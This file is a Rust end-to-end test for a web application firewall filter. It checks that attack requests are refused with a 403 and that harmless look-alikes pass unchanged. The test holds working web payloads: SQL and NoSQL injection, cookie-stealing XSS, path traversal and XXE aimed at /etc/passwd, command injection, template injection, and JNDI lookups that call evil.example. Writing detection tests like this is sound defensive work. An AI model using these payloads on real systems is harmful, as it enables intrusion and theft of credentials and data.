//! Attacks in values are refused from the first minute, before anything was learned; what only looks like them passes.

mod e2e;

use std::io::Write as _;

use apiward_e2e::harness::{Envoy, Secrets, Trainer};
use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use flate2::Compression;
use flate2::write::GzEncoder;
use serde_json::json;

use e2e::{Client, EchoService, NoteRequest, VERDICT_HEADER, filter_configuration, serial_of, until};

const BODY_BYTES_MAX: usize = 64 * 1024;
const FORM: &str = "application/x-www-form-urlencoded";
const MULTIPART: &str = "multipart/form-data; boundary=cut";
/// Connections after which both workers had some, but for chance below one in a million.
const CONNECTIONS: usize = 24;

fn token(claims: &serde_json::Value) -> String {
    let part = |value: &serde_json::Value| URL_SAFE_NO_PAD.encode(value.to_string());
    format!("Bearer {}.{}.c2ln", part(&json!({"alg": "HS256"})), part(claims))
}

fn gzipped(text: &str) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(text.as_bytes()).unwrap();
    encoder.finish().unwrap()
}

fn multipart(file: &str, text: &str) -> String {
    format!(
        "--cut\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n{text}\r\n--cut\r\nContent-Disposition: form-data; \
         name=\"file\"; filename=\"{file}\"\r\nContent-Type: image/png\r\n\r\nPNG\r\n--cut--\r\n"
    )
}

/// Requests that path, query and headers give away, each with the class that it is taken for.
fn in_the_head() -> Vec<(&'static str, NoteRequest)> {
    let get = NoteRequest::get;
    let with = |name, value: &str| NoteRequest::get("/notes").with_header(name, value);
    vec![
        ("sqli", get("/notes?id=1%27%20OR%20%271%27=%271%27%20--%20")),
        ("sqli", get("/notes?id=-1%252527%20UNION%20SELECT%20name,password%20FROM%20users--")),
        ("xss", get("/notes?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E")),
        ("path_traversal", get("/files?name=..%2f..%2f..%2f..%2fetc%2fpasswd")),
        ("path_traversal", get("/files/..%252f..%252f..%252fetc%252fpasswd")),
        ("command_injection", get("/ping?host=127.0.0.1;cat%20/etc/passwd")),
        ("template_injection", get("/hello?name=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D")),
        ("xss", with("referer", "https://a.example/?q=<script>alert(1)</script>")),
        ("code_injection", with("user-agent", "${jndi:ldap://evil.example/a}")),
        ("sqli", with("cookie", "theme=dark; id=1' AND SLEEP(5)-- ")),
        ("code_injection", with("x-api-version", "${jndi:${lower:l}dap://evil.example/a}")),
        ("sqli", with("authorization", &token(&json!({"sub": "1' UNION SELECT password FROM users-- "})))),
    ]
}

/// Requests that only their body gives away.
fn in_the_body() -> Vec<(&'static str, NoteRequest)> {
    let post = |content_type, body: &str| NoteRequest::post("/notes", content_type, body.to_owned());
    let sqli = "1' UNION ALL SELECT username, password FROM users-- ";
    let xxe = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>";
    vec![
        ("sqli", NoteRequest::json("/notes", &json!({"items": [{"note": sqli}]}))),
        ("xss", NoteRequest::json("/notes", &json!({"text": "<img src=x onerror=alert(document.domain)>"}))),
        ("nosqli", NoteRequest::json("/login", &json!({"user": {"$ne": null}, "password": {"$gt": ""}}))),
        ("command_injection", post(FORM, "host=127.0.0.1%7Cwhoami%3B%20cat%20%2Fetc%2Fpasswd")),
        ("xss", post(MULTIPART, &multipart("a.png", "<svg onload=alert(1)>"))),
        ("path_traversal", post(MULTIPART, &multipart("../../../../var/www/shell.php", "hello"))),
        ("xxe", post("application/xml", xxe)),
        ("sqli", post("text/plain", sqli)),
        ("sqli", post("application/graphql", "query { user(id: \"1' OR '1'='1' -- \") { name } }")),
        (
            "sqli",
            NoteRequest::post("/notes", "application/json", gzipped(&json!({"a": sqli}).to_string()))
                .with_header("content-encoding", "gzip"),
        ),
        ("sqli", NoteRequest::json("/notes", &json!({"inner": json!({"q": sqli}).to_string()}))),
    ]
}

/// What looks a little like attacks and is none.
fn benign() -> Vec<NoteRequest> {
    let get = NoteRequest::get;
    vec![
        get("/notes?author=O%27Brien&title=It%27s%20a%20union%20of%20two%20sets"),
        get("/search?q=select%20the%20best%20option%20from%20the%20list"),
        get("/notes?redirect_uri=https%3A%2F%2Fshop.example%2Fcart%3Fid%3D7%26utm_source%3Dmail"),
        get("/files?name=reports%2F2024%2Fq3-final.pdf"),
        get("/notes").with_header("cookie", "theme=dark; cart=%7B%22items%22%3A3%7D; _ga=GA1.2.3.4"),
        get("/notes").with_header(
            "user-agent",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
        ),
        get("/notes").with_header("authorization", token(&json!({"sub": "ann", "scope": "orders:read orders:write"}))),
        NoteRequest::json(
            "/notes",
            &json!({"text": "Don't forget: drop the keys off at Sam's (after 5)!", "pages": 2}),
        ),
        NoteRequest::json("/notes", &json!({"text": "If a < b && b > c then we win; see the table below."})),
        NoteRequest::post("/notes", FORM, "comment=R%26D+costs+%2412%2C500+%28up+5%25%29&name=D%27Arc"),
        NoteRequest::post("/notes", MULTIPART, multipart("holiday photo (1).png", "Lovely - isn't it?")),
        NoteRequest::post(
            "/notes",
            "application/xml",
            "<note><to>Ann</to><text>Tea &amp; cake at 5 o'clock</text></note>",
        ),
        NoteRequest::post(
            "/notes",
            "text/plain",
            "Dear all,\nplease select a date from the list and update it.\n- Sam",
        ),
        NoteRequest::post("/notes", "application/json", gzipped(r#"{"text":"Two rooms need three cans."}"#))
            .with_header("content-encoding", "gzip"),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn attacks_in_values_are_refused_before_anything_was_learned_and_benign_twins_pass_byte_for_byte()
-> anyhow::Result<()> {
    let secrets = Secrets::random()?;
    let service = EchoService::start().await?;
    let trainer = Trainer::builder(&secrets).start().await?;
    let envoy = Envoy::builder(service.address(), trainer.address(), &secrets)?
        .filter(&filter_configuration(&json!({
            "mode": "enforce", "body_bytes_max": BODY_BYTES_MAX, "body_over_limit": "refuse", "capture": false,
        })))
        .start()
        .await?;
    let client = Client::with_new_connections(&envoy);
    until("the starter bundle on all workers", async || {
        let mut serials = Vec::new();
        for _ in 0..CONNECTIONS {
            serials.push(serial_of(&client.send(&NoteRequest::get("/healthz")).await?.headers));
        }
        Ok(serials.into_iter().min().flatten())
    })
    .await?;
    let http2 = Client::http2(&envoy);

    let mut missed = Vec::new();
    for (class, request) in in_the_head() {
        for client in [&client, &http2] {
            let begun = service.received().begun.len();
            let reply = client.send(&request.again()).await?;
            if reply.status != 403 || service.received().begun.len() != begun {
                missed.push(format!("{class}: {} {:?}: {}", request.path, request.headers, reply.status));
            }
        }
    }
    for (class, request) in in_the_body() {
        for (client, request) in
            [(&client, request.again()), (&client, request.again().chunked()), (&http2, request.again())]
        {
            let whole = service.received().whole.len();
            let reply = client.send(&request).await?;
            if reply.status != 403 || service.received().whole.len() != whole {
                let body = String::from_utf8_lossy(&request.body).into_owned();
                missed.push(format!("{class}: {} {body}: {}", request.path, reply.status));
            }
        }
    }
    assert!(missed.is_empty(), "passed:\n{}", missed.join("\n"));

    let mut refused = Vec::new();
    for request in benign() {
        for (client, request) in
            [(&client, request.again()), (&client, request.again().chunked()), (&http2, request.again())]
        {
            let reply = client.send(&request).await?;
            if reply.status != 200 {
                refused.push(format!("{} {}", request.path, String::from_utf8_lossy(&request.body)));
            } else {
                assert!(reply.body == request.body, "{} did not come back as it was sent", request.path);
                let verdict = reply.headers[VERDICT_HEADER].to_str()?;
                assert!(verdict.starts_with("normal;"), "{verdict}");
            }
        }
    }
    assert!(refused.is_empty(), "refused:\n{}", refused.join("\n"));

    let long = NoteRequest::json("/notes", &json!({"text": "word ".repeat(BODY_BYTES_MAX / 4)}));
    for long in [long.again(), long.chunked()] {
        assert_eq!(client.send(&long).await?.status, 413);
    }

    let classes = until("the detections", async || {
        let listed = trainer.get("/v1/detections?detector=payload").await?;
        let found = listed["detections"].as_array().cloned().unwrap_or_default();
        Ok((found.len() >= 10).then_some(found))
    })
    .await?;
    let shown = serde_json::to_string(&classes)?;
    assert!(shown.contains("looks like SQL injection") && !shown.contains("username"), "{shown}");
    envoy.stop().await
}
